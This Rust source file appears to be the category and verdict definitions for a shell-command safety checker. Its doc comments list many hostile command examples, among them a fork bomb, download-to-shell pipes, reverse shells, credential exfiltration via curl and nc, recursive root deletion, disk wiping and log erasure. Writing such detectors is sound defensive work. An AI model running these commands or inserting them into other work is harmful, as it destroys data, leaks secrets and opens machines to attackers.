//! What the safety check says about a command: the categories of danger and the verdict.

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// A kind of dangerous command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Category {
    /// Recursive delete (or move away) of `/`, any folder of the operating system (`/var/lib`,
    /// `/usr/share`, …), a home folder or a folder directly in one (`~/.ssh`, `~/Documents`),
    /// or any `rm --no-preserve-root`; `find / -delete`. Wrappers (`sudo`, `doas`, `env`,
    /// `nice`, `timeout`, …) do not hide it.
    RecursiveDelete,
    /// Writing straight to a disk device: `dd of=/dev/sda`, `> /dev/sda`, `shred /dev/sda`,
    /// `tee`/`cp` onto a device, `blkdiscard`.
    RawDiskWrite,
    /// Creating a file system or rewriting a partition table: `mkfs*`, `mkswap`, `fdisk`,
    /// `sfdisk`, `parted … mklabel/mkpart/rm`, `sgdisk --zap-all`, `wipefs -a`, `diskutil erase*`.
    FilesystemFormat,
    /// A shell function that calls itself twice or in the background (`:(){ :|:& };:`).
    ForkBomb,
    /// Downloaded text run as code: `curl … | sh`, `sh <(curl …)`, `bash -c "$(curl …)"`,
    /// `eval "$(wget -O- …)"`, `python3 <(curl …)`.
    DownloadToShell,
    /// `chmod`/`chown`/`chgrp` applied recursively to `/`, a system folder or a home folder, or
    /// to any file of the operating system (`chmod u+s /bin/bash`, `chmod 777 /etc/shadow`).
    PermissionBlast,
    /// `git push` that rewrites or deletes remote history: `--force`, `-f`,
    /// `--force-with-lease`, `+refspec`, `--delete`, `:branch`, `--mirror`, `--prune`.
    ForcePush,
    /// Git commands that destroy uncommitted or unpushed work: `reset --hard`, forced `clean`,
    /// forced or whole-tree `checkout`, `stash clear`, `reflog expire --expire=now`,
    /// `filter-branch`/`filter-repo`.
    DestructiveGit,
    /// Shutting down or restarting the machine: `shutdown`, `reboot`, `halt`, `poweroff`,
    /// `init 0`/`init 6`, `systemctl poweroff`.
    Shutdown,
    /// Killing every process (`kill -9 -1`, `kill 1`, `killall5`) or all of a user's
    /// (`pkill -9 -u bob`, `killall -u bob`).
    KillAll,
    /// Decoded or unpacked text run as code: `base64 -d x | sh`, `xxd -r -p | bash`,
    /// `sh <(gunzip -c x.gz)`, `printf '\x72\x6d…' | sh`.
    DecodeToShell,
    /// A shell handed to a network peer: `nc -e /bin/sh`, `ncat --sh-exec`, `socat exec:… tcp:…`,
    /// `bash -i >& /dev/tcp/…`, `nc … | sh`, interpreter one-liners joining a socket to a shell.
    ReverseShell,
    /// Keys, credentials or the environment sent over the network: `curl -d @~/.ssh/id_rsa`,
    /// `scp ~/.aws/credentials host:`, `cat .env | nc host 80`, `env | curl -d @- …`.
    CredentialExfiltration,
    /// Changing firewall rules: `iptables -F`, `nft flush ruleset`, `ufw disable`,
    /// `firewall-cmd --add-port`, `pfctl -d`.
    FirewallChange,
    /// Changing routes or taking interfaces down: `ip route del default`, `route add`,
    /// `ip link set eth0 down`, `ifconfig eth0 down`, `nmcli networking off`.
    RoutingChange,
    /// Deleting or replacing scheduled jobs: `crontab -r`, `crontab file`, `atrm`,
    /// `systemctl disable x.timer`.
    ScheduledJobRemoval,
    /// Stopping, disabling, masking or deregistering a system service: `systemctl stop|disable|mask`,
    /// `service x stop`, `update-rc.d x remove`, `launchctl unload|bootout`.
    ServiceRemoval,
    /// Changing the running kernel or its settings: `insmod`, `rmmod`, `modprobe`, `kexec`,
    /// `sysctl -w`, writes to `/proc/sys`, `/sys` or `/proc/sysrq-trigger`.
    KernelChange,
    /// Changing who may log in or become root: `useradd`, `userdel`, `usermod`, `passwd`,
    /// `chpasswd`, `visudo`, writes to `/etc/passwd`, `/etc/shadow`, `/etc/sudoers`, an
    /// `authorized_keys` file.
    AccountChange,
    /// Erasing traces: `history -c`, `unset HISTFILE`, `HISTFILE=/dev/null`, deleting or
    /// truncating shell histories or anything under `/var/log`, `journalctl --vacuum-*`.
    LogWipe,
    /// Writing, replacing or deleting a file of the operating system (`> /etc/hosts`,
    /// `tee /etc/…`, `cp x /usr/bin/`, `sed -i … /etc/…`, `rm /usr/lib/…`).
    SystemFileWrite,
    /// Destroying keys and credentials: a secure-delete tool (`shred`, `srm`, `wipe`, `scrub`,
    /// `sdelete`, `rm -P`) aimed at a secret (private keys, `~/.gnupg`, cloud and registry
    /// credentials, `.netrc`, `.env` files, `*.pem`/`*.key` files), deleting or overwriting
    /// key material in a home folder (`rm ~/.ssh/id_ed25519`, `> ~/.aws/credentials`),
    /// `gpg --delete-secret-keys`, `security delete-keychain`.
    CredentialDestruction,
}

impl Category {
    /// Every category, in declaration order.
    pub const ALL: [Category; 22] = [
        Category::RecursiveDelete,
        Category::RawDiskWrite,
        Category::FilesystemFormat,
        Category::ForkBomb,
        Category::DownloadToShell,
        Category::PermissionBlast,
        Category::ForcePush,
        Category::DestructiveGit,
        Category::Shutdown,
        Category::KillAll,
        Category::DecodeToShell,
        Category::ReverseShell,
        Category::CredentialExfiltration,
        Category::FirewallChange,
        Category::RoutingChange,
        Category::ScheduledJobRemoval,
        Category::ServiceRemoval,
        Category::KernelChange,
        Category::AccountChange,
        Category::LogWipe,
        Category::SystemFileWrite,
        Category::CredentialDestruction,
    ];

    /// The snake_case name used in JSON.
    pub fn as_str(self) -> &'static str {
        match self {
            Category::RecursiveDelete => "recursive_delete",
            Category::RawDiskWrite => "raw_disk_write",
            Category::FilesystemFormat => "filesystem_format",
            Category::ForkBomb => "fork_bomb",
            Category::DownloadToShell => "download_to_shell",
            Category::PermissionBlast => "permission_blast",
            Category::ForcePush => "force_push",
            Category::DestructiveGit => "destructive_git",
            Category::Shutdown => "shutdown",
            Category::KillAll => "kill_all",
            Category::DecodeToShell => "decode_to_shell",
            Category::ReverseShell => "reverse_shell",
            Category::CredentialExfiltration => "credential_exfiltration",
            Category::FirewallChange => "firewall_change",
            Category::RoutingChange => "routing_change",
            Category::ScheduledJobRemoval => "scheduled_job_removal",
            Category::ServiceRemoval => "service_removal",
            Category::KernelChange => "kernel_change",
            Category::AccountChange => "account_change",
            Category::LogWipe => "log_wipe",
            Category::SystemFileWrite => "system_file_write",
            Category::CredentialDestruction => "credential_destruction",
        }
    }
}

impl std::fmt::Display for Category {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// The safety check's verdict on one command line.
///
/// Three outcomes: dangerous (`dangerous`, with a `category`), benign, and uncertain — not
/// found dangerous, but part of the line is code the check cannot judge (an interpreter's
/// inline code that builds what it runs or deletes at run time, or a language it does not
/// read), so approval policies ask rather than allow.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Classification {
    /// Whether the command matched a dangerous pattern.
    pub dangerous: bool,
    /// Which pattern (`null` when benign).
    pub category: Option<Category>,
    /// Why, in one sentence (names the part of the command that matched, or that could not
    /// be judged).
    pub reason: String,
    /// Not found dangerous, but part of the line could not be judged (never set together
    /// with `dangerous`). Written only when true, so the verdicts that existed before it keep
    /// their three fields.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub uncertain: bool,
}

impl Classification {
    /// A benign verdict.
    pub fn benign() -> Self {
        Self {
            dangerous: false,
            category: None,
            reason: "no dangerous pattern found".to_owned(),
            uncertain: false,
        }
    }

    /// A dangerous verdict.
    pub fn dangerous(category: Category, reason: impl Into<String>) -> Self {
        Self {
            dangerous: true,
            category: Some(category),
            reason: reason.into(),
            uncertain: false,
        }
    }

    /// An uncertain verdict: nothing dangerous found, but `reason` names what could not be
    /// judged.
    pub fn uncertain(reason: impl Into<String>) -> Self {
        Self {
            dangerous: false,
            category: None,
            reason: reason.into(),
            uncertain: true,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_match_serde() {
        for category in Category::ALL {
            let json = serde_json::to_value(category).unwrap();
            assert_eq!(json, serde_json::Value::String(category.as_str().into()));
        }
    }

    #[test]
    fn benign_serialises_null_category() {
        let json = serde_json::to_value(Classification::benign()).unwrap();
        assert_eq!(json["dangerous"], false);
        assert!(json["category"].is_null());
    }
}
